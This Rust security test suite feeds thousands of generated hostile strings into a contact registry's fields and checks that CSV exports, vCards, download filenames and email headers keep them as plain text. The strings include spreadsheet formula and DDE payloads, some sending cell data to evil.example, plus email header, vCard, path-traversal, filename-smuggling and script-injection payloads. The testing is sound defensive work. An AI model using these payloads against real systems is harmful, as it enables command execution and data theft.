//! Strings that would be more than text: in a table, an address card, a letter's head, the name of a file.
//!
//! Somebody who may write an entry writes formulas, line ends, quotes, whole cards and headers into every free field, by the thousand. Whatever the
//! door takes comes out of every export as the text that it is. The judges here are readers of their own: one that splits tables at commas as the
//! standard says, one that splits at semicolons, tabs and line ends whatever the quotes say, one that unfolds cards, one that reads a letter's head.
//! Serves TRUST G-S7.

use serde_json::{Map, Value, json};
use std::collections::{BTreeMap, BTreeSet};
use terms::{Instant, Role};
use testkit::{Answer, Who, World};

/// What is put in front: how a formula begins for one program or another, and what it may be hidden behind.
const BEGINNINGS: [&str; 22] = [
    "=",
    "+",
    "-",
    "@",
    "|",
    "%",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u{a0}=",
    "\u{3000}@",
    "\t=",
    "\r=",
    "\n=",
    "\"=",
    "';=",
    ";=",
    "; +",
    "x;-",
    "x\t@",
];

/// What is done there.
const DEEDS: [&str; 33] = [
    "1\n*cmd|' /C calc'!A0",
    "1+1",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
    "WEBSERVICE(\"https://evil.example\")",
    "DDE(\"cmd\";\"/C calc\";\"__DdeLink_1\")",
    "SUM(1,1)*cmd|'/C calc'!A1",
    "IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
    "2+5+cmd|'/C calc'!A0",
    "1;=1+1",
    "1\t=1+1",
    "a\",\"=1+1",
    "a\"\"=1+1\"\"",
    "a\r\n=1+1",
    "a\n\"=1+1\"",
    "+254 20 555 0100",
    "-254 20 555 0100",
    "a\r\nBcc: victim@people.example",
    "a\nBcc: victim@people.example\n\nbody",
    "a\r\n\r\n<html>",
    "a\u{2028}Bcc: victim@people.example",
    "=?utf-8?q?=0D=0ABcc:_victim=40people.example?=",
    "END:VCARD\r\nBEGIN:VCARD\r\nFN:other",
    "a\r\nTEL:+1 555 0100",
    "a\\nTEL:+1 555 0100",
    "a;TYPE=home:b",
    "../../etc/passwd",
    "a\"; filename=\"evil.exe",
    "a\r\nSet-Cookie: comity=evil",
    "a\u{0}b",
    "\u{202e}gpj.exe",
    "<script>alert(1)</script>",
    "{{7*7}}${7*7}",
];

/// What follows.
const ENDS: [&str; 8] = ["", " ", ";", "\t", "\"", "\r\n", ",=2", "'"];

fn corpus() -> Vec<String> {
    let mut all = BTreeSet::new();
    for beginning in BEGINNINGS {
        for deed in DEEDS {
            for end in ENDS {
                all.insert(format!("{beginning}{deed}{end}"));
            }
        }
    }
    let all: Vec<String> = all.into_iter().collect();
    assert!(all.len() >= 5_000, "{} strings", all.len());
    all
}

/// Rows of a table as the standard says: quotes hold commas and line ends.
fn rows(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut cell)),
            '\r' if !quoted && chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            c => cell.push(c),
        }
    }
    assert!(!quoted && row.is_empty() && cell.is_empty(), "the last line ends");
    rows
}

/// Whether a spreadsheet would calculate this. A telephone number is none.
fn calculates(piece: &str) -> bool {
    let bare = piece.trim_matches([' ', '\u{a0}', '\u{3000}', '"', '\t', '\r', '\n']);
    match bare.chars().next() {
        Some('=' | '-' | '@' | '|' | '%' | '＝' | '＋' | '－' | '＠') => true,
        Some('+') => bare.chars().any(|c| c.is_alphabetic() || "=*|!/&<>{}$_'\"".contains(c)),
        _ => false,
    }
}

/// A table that no program can take for more than text; gives how many cells there are.
fn judge_table(place: &str, answer: &Answer) -> usize {
    assert_eq!(answer.status, 200, "{place}: {}", answer.text());
    named_plainly(place, answer, ".csv");
    let text = answer.text();
    let rows = rows(&text);
    let width = rows.first().map_or(0, Vec::len);
    assert!(width > 1, "{place}: {width} columns");
    for row in &rows {
        assert_eq!(row.len(), width, "{place}: a cell broke out of its row: {row:?}");
        for cell in row {
            assert!(!calculates(cell), "{place}: {cell:?}");
        }
    }
    // Whoever splits elsewhere sees nothing to calculate either.
    for piece in text.split([';', '\t', '\r', '\n']) {
        let piece = piece.split("\",\"").next().unwrap_or_default();
        assert!(!calculates(piece), "{place}: split at its semicolons: {piece:?}");
    }
    rows.len() * width
}

const PROPERTIES: [&str; 22] = [
    "BEGIN",
    "VERSION",
    "PRODID",
    "UID",
    "KIND",
    "FN",
    "ORG",
    "TITLE",
    "ROLE",
    "ADR",
    "TEL",
    "EMAIL",
    "IMPP",
    "URL",
    "TZ",
    "LANG",
    "KEY",
    "NOTE",
    "REV",
    "END",
    "X-COMITY-MESSENGER",
    "X-COMITY-OPENPGP-FINGERPRINT",
];

/// One card, whose lines have the names that cards of ours have, and none twice that stands once.
fn judge_card(place: &str, answer: &Answer) {
    assert_eq!(answer.status, 200, "{place}: {}", answer.text());
    named_plainly(place, answer, ".vcf");
    let text = answer.text();
    assert!(text.ends_with("\r\n"), "{place}");
    for line in text.split("\r\n") {
        assert!(line.len() <= 75, "{place}: a line of {} octets", line.len());
        assert!(!line.chars().any(|c| c.is_control() && c != '\t'), "{place}: {line:?}");
    }
    let unfolded = text.replace("\r\n ", "");
    let mut names: BTreeMap<&str, usize> = BTreeMap::new();
    for line in unfolded.split_terminator("\r\n") {
        let name = line.split([':', ';']).next().unwrap_or_default();
        assert!(PROPERTIES.contains(&name), "{place}: {line:?}");
        *names.entry(name).or_insert(0) += 1;
    }
    for once in ["BEGIN", "END", "FN", "UID", "NOTE", "REV"] {
        assert_eq!(names.get(once), Some(&1), "{place}: {once}");
    }
}

/// A file's name is ours: letters, digits, hyphens.
fn named_plainly(place: &str, answer: &Answer, ending: &str) {
    let told = answer.header("content-disposition").unwrap_or_default();
    let name = told
        .strip_prefix("attachment; filename=\"")
        .and_then(|rest| rest.strip_suffix('"'))
        .unwrap_or_else(|| panic!("{place}: {told:?}"));
    let stem = name.strip_suffix(ending).unwrap_or_else(|| panic!("{place}: {name:?}"));
    assert!(
        !stem.is_empty()
            && stem
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-'),
        "{place}: {name:?}"
    );
}

/// The first text under this name, wherever it stands.
fn text_at(value: &Value, name: &str) -> Option<String> {
    match value {
        Value::Object(object) => {
            let own = object.get(name).and_then(Value::as_str).map(str::to_owned);
            own.or_else(|| object.values().find_map(|v| text_at(v, name)))
        }
        Value::Array(list) => list.iter().find_map(|v| text_at(v, name)),
        _ => None,
    }
}

const FIELDS: [&str; 8] = [
    "person-name",
    "person-post",
    "person-address",
    "office-name",
    "office-unit",
    "office-place",
    "duty-note",
    "note",
];

#[test]
fn five_thousand_strings_stay_text_in_tables_and_cards() {
    let world = World::small();
    let contact = world
        .contact_of(Who::Administrator, "XAA", Role::Technical)
        .expect("an entry");
    let id = contact.id.to_string();
    let token = world.token(Who::Administrator, &[desk::Scope::Read, desk::Scope::Nominate]);
    let shown = world.get(Who::Administrator, &format!("/en/contacts/{id}.json")).json();
    let mut base = text_at(&shown, "base").expect("its revision");
    let (mut taken, mut refused, mut cells, mut seen) = (0, 0, 0, 0);
    let all = corpus();
    for (n, batch) in all.chunks(FIELDS.len()).enumerate() {
        let mut fields: Vec<(&str, &String)> = FIELDS.into_iter().zip(batch).collect();
        // What the door names as wrong is left out; the rest is said.
        let said = loop {
            let mut body: Map<String, Value> = fields.iter().map(|(n, v)| ((*n).to_owned(), json!(v))).collect();
            body.insert("contact".into(), json!(id));
            body.insert("duty-pattern".into(), json!("office"));
            body.insert("base".into(), json!(base));
            let answer = world.api(
                &token,
                "edit",
                &format!("inject-{n:06}-{}", fields.len()),
                &Value::Object(body),
            );
            if answer.status == 201 {
                base = answer.json()["id"].as_str().expect("an id").to_owned();
                break true;
            }
            assert_eq!(answer.status, 422, "{fields:?}: {}", answer.text());
            let told = answer.json();
            let wrong: BTreeSet<String> = told["errors"]
                .as_array()
                .into_iter()
                .flatten()
                .chain([&told])
                .filter_map(|e| e["field"].as_str().map(str::to_owned))
                .collect();
            let before = fields.len();
            fields.retain(|(name, _)| !wrong.contains(*name));
            refused += before - fields.len();
            assert!(fields.len() < before, "{}", answer.text());
            if fields.is_empty() {
                break false;
            }
        };
        if !said {
            continue;
        }
        taken += fields.len();
        let table = world.get(Who::Administrator, "/en/contacts.csv?state=XAA");
        cells += judge_table("/en/contacts.csv", &table);
        let card = world.get(Who::Administrator, &format!("/en/contacts/{id}.vcf"));
        judge_card(&format!("{fields:?}"), &card);
        // The control: what was typed is in what was judged.
        let name = fields.iter().find(|(n, _)| *n == "office-place");
        if let Some((_, text)) = name {
            let letters: String = text.chars().filter(|c| c.is_ascii_alphanumeric()).collect();
            let plain = |text: String| -> String { text.chars().filter(|c| c.is_ascii_alphanumeric()).collect() };
            seen += usize::from(plain(card.text().replace("\r\n ", "").replace("\\n", "\n")).contains(&letters));
        }
    }
    assert_eq!(taken + refused, all.len());
    assert!(taken >= 3_000, "{taken} were taken, {refused} refused at the door");
    assert!(seen > 100, "only {seen} were found again in cards");
    assert!(cells > 10_000, "{cells} cells");
}

/// A document that is called so, with a text of such paragraphs.
fn publishes(world: &World, sample: &[String]) {
    let token = world.token(Who::Secretariat, &desk::Scope::ALL);
    let said = |verb: &str, body: &Value| {
        let answer = world.api(&token, verb, &format!("{verb}-poisoned"), body);
        assert_eq!(answer.status, 201, "{verb}: {}", answer.text());
    };
    let document = json!({"document": "poisoned", "title-en": "=1+1", "symbol": "@SUM(1)", "status": "draft", "original": "en", "note": "x;=1+1"});
    said("publish-document", &document);
    let one = |(n, text): (usize, &String)| framework::Provision {
        address: (n + 1).to_string(),
        depth: 0,
        form: framework::Form::Paragraph,
        kind: None,
        label: Some("=1+1".to_owned()),
        text: text.clone(),
        marks: Vec::new(),
    };
    let mut tree = framework::Tree {
        provisions: sample.iter().enumerate().map(one).collect(),
        ..framework::Tree::default()
    };
    // What is no text is never sealed.
    while let Err(framework::Broken::At(address)) = tree.sound() {
        tree.provisions.retain(|p| p.address != address);
    }
    assert!(tree.provisions.len() > 4, "{} paragraphs", tree.provisions.len());
    let import = framework::Import {
        tree,
        file: "=1+1.txt".to_owned(),
        ..framework::Import::default()
    };
    let json = serde_json::to_string(&import).expect("JSON");
    let turn = world
        .desk()
        .import_put("poisoned", "en", &json, world.clock.now())
        .expect("a text that waits");
    let text = json!({"document": "poisoned", "language": "en", "standing": "original", "turn": turn.to_string()});
    said("publish-text", &text);
}

/// A paper in such passages, all on norm (c).
fn says_a_paper(world: &World, sample: &[String]) {
    let token = world.token(Who::Administrator, &desk::Scope::ALL);
    let mut paper = json!({"party": "XAA", "sort": "view", "life": "in-force", "original": "en", "title": "=1+1", "symbol": "@SUM(1)",
        "link": "https://x.example/=1+1", "label": "TLP:CLEAR"});
    let mut taken = 0;
    // What no text holds is refused, and named; the rest is said.
    for text in sample
        .iter()
        .filter(|text| terms::lines(text, 2_000).is_ok_and(|text| !text.is_empty()))
        .take(40)
    {
        taken += 1;
        paper[format!("text-{taken}")] = text.as_str().into();
        paper[format!("on-{taken}")] = "norm-13c".into();
    }
    assert!(taken > 4, "{taken} passages");
    let answer = world.api(&token, "publish-paper", "paper-poisoned", &paper);
    assert_eq!(answer.status, 201, "{}", answer.text());
}

/// A call and a submission to it: what stands in their table is of closed lists, and of names of parties.
fn submits(world: &World) {
    let secretary = world.token(Who::Secretariat, &desk::Scope::ALL);
    let call = json!({"compilation": "poisoned", "life": "called", "sections": "stream-law", "words": "100", "order": "receipt", "due": "2099-12-31",
        "title-en": "=1+1", "symbol": "@SUM(1)"});
    let answer = world.api(&secretary, "publish-compilation", "call-poisoned", &call);
    assert_eq!(answer.status, 201, "{}", answer.text());
    let call = answer.json()["subject"].clone();
    let token = world.token(Who::Administrator, &desk::Scope::ALL);
    let paper = json!({"party": "XAA", "sort": "submission", "call": call, "life": "in-force", "original": "en", "title": "=1+1",
        "on-1": "stream-law", "text-1": "=1+1"});
    let answer = world.api(&token, "publish-paper", "submission-poisoned", &paper);
    assert_eq!(answer.status, 201, "{}", answer.text());
}

/// What else people write goes into the other tables: names of parties, notes of mandates and accreditations, rounds with their titles.
#[test]
fn every_other_table_keeps_text_as_text() {
    let mut world = World::small();
    let mut sample: Vec<String> = corpus().into_iter().step_by(487).collect();
    sample.extend(["=1+1", "@SUM(1)", "x;=1+1", "a\",\"=1+1"].map(str::to_owned));
    let secretary = world.token(Who::Secretariat, &desk::Scope::ALL);
    let now = world.clock.now();
    let mut refused = BTreeSet::new();
    let (mut said, mut answers) = (BTreeMap::new(), BTreeSet::new());
    for (n, text) in sample.iter().enumerate() {
        let capacity = ["state", "cirt"][n % 2];
        let party = ["XAD", "XAE", "XAF", "XAG", "XAH", "XAI", "XAJ", "XAK"][(n / 2) % 8];
        for (verb, body) in [
            ("accredit", json!({"party": party, "capacity": capacity, "note": text})),
            (
                "mandate",
                json!({"party": party, "role": "state-admin", "to": "2027-06-01", "mail": format!("person{n}@people.example"),
                    "person-name": text, "person-post": text, "note": text}),
            ),
            (
                "draft-round",
                json!({"party": "XSEC", "asks": "receipt", "parties": "all", "announced": "yes", "exercise": "no",
                    "opens": now.plus_seconds(86_400).to_string(), "closes": now.plus_seconds(3 * 86_400).to_string(),
                    "publish": "none", "role-technical": "yes", "title-en": text, "message-en": text, "note": text}),
            ),
        ] {
            let answer = world.api(&secretary, verb, &format!("{verb}-{n:06}"), &body);
            assert!(answer.status < 500, "{verb}: {}", answer.text());
            if answer.status >= 300 {
                let told = answer.json();
                refused.insert(format!("{verb} {} {}", told["code"], told["field"]));
            } else {
                *said.entry(verb).or_insert(0) += 1;
                if let (Some(id), "draft-round") = (answer.json()["subject"].as_str(), verb) {
                    answers.insert(id.to_owned());
                }
            }
        }
    }
    // Half of the sample has line ends or what is no character, which a field of one line does not take.
    assert!(
        said.len() == 3 && said.values().all(|n| *n >= 4),
        "{said:?} were taken, {refused:?} refused"
    );
    world.letters_are_written();
    publishes(&world, &sample);
    says_a_paper(&world, &sample);
    submits(&world);
    // Somebody is called as in the sample: her looks stand in the watch book of others.
    let person = world.person(Who::Secretariat);
    world.gives_mandate(person, "XSEC", Role::Secretariat, "=cmd|' /C calc'!A0");
    world.sign_in(Who::Secretariat);
    let table = web::routes_table();
    let mut judged = 0;
    for line in table.lines().filter(|l| l.starts_with('/')) {
        let words: Vec<&str> = line.split_whitespace().collect();
        if !words[4..].contains(&"csv") {
            continue;
        }
        let words: Vec<String> = words
            .iter()
            .map(|w| w.replace("{slug}", "poisoned").replace("{set}", "norm"))
            .collect();
        let places: Vec<String> = if words[0].contains("{id}") {
            answers.iter().take(5).map(|id| words[0].replace("{id}", id)).collect()
        } else {
            // Of the comparison, what stands beside each other; others take no such parameter.
            vec![words[0].clone()]
        };
        let query = if words[0].ends_with("/compare") {
            "?on=norm-13c"
        } else {
            ""
        };
        assert!(!places.is_empty(), "{line}");
        let mut met = 0;
        for place in places {
            let place = format!("{}.csv", place.replace("{lang}", "en"));
            for who in Who::ALL {
                let answer = world.get(who, &format!("{place}{query}"));
                if answer.status == 200 {
                    judge_table(&place, &answer);
                    met += 1;
                }
                // What is typed into an address is no file's name.
                let typed = world.get(
                    who,
                    &format!("{place}?q=%3D1%22%3B%20filename%3D%22evil.exe&state=%3D1"),
                );
                if typed.status == 200 {
                    judge_table(&place, &typed);
                }
            }
        }
        assert!(met > 0, "nobody reads {line}");
        judged += 1;
    }
    assert!(judged >= 9, "{judged} tables");
}

#[test]
fn no_string_becomes_a_header_of_a_letter() {
    let address = |text: &str| post::EmailAddress::parse(text).expect("an address");
    let letter = |subject: &str, id: &str| post::Letter {
        id: id.to_owned(),
        from: address("no-reply@comity.example"),
        to: address("duty@cert.example"),
        reply_to: None,
        subject: subject.to_owned(),
        language: terms::Language::En,
        body: vec![post::Block::Text("Text.".into())],
    };
    let names = |bytes: &[u8]| -> Vec<String> {
        assert!(bytes.is_ascii());
        let text = String::from_utf8(bytes.to_vec()).expect("ASCII");
        let (head, _) = text.split_once("\r\n\r\n").expect("a head");
        assert!(!head.replace("\r\n", "").contains(['\r', '\n']), "{head:?}");
        let unfolded = head.replace("\r\n ", " ").replace("\r\n\t", " ");
        unfolded
            .split("\r\n")
            .map(|line| line.split_once(':').unwrap_or_else(|| panic!("{line:?}")).0.to_owned())
            .collect()
    };
    let usual = names(
        &letter("Plain", "a@comity.example")
            .compose(Instant::from_micros(0))
            .expect("a letter"),
    );
    let (mut composed, mut refused) = (0, 0);
    for text in corpus() {
        match letter(&text, "a@comity.example").compose(Instant::from_micros(0)) {
            Ok(bytes) => {
                assert_eq!(names(&bytes), usual, "{text:?}");
                composed += 1;
            }
            Err(refusal) => {
                assert_eq!(refusal.field, Some("subject"), "{text:?}");
                refused += 1;
            }
        }
        // An id or an address that carries more than itself is none.
        assert!(
            letter("Plain", &text).compose(Instant::from_micros(0)).is_err(),
            "{text:?}"
        );
        for form in [text.clone(), format!("{text}@people.example"), format!("duty@{text}")] {
            if let Ok(kept) = post::EmailAddress::parse(&form) {
                assert!(
                    !kept
                        .as_str()
                        .chars()
                        .any(|c| c.is_control() || c.is_whitespace() || "<>,;\"()".contains(c)),
                    "{:?}",
                    kept.as_str()
                );
            }
        }
    }
    assert!(
        composed > 1_000 && refused > 1_000,
        "{composed} composed, {refused} refused"
    );
}
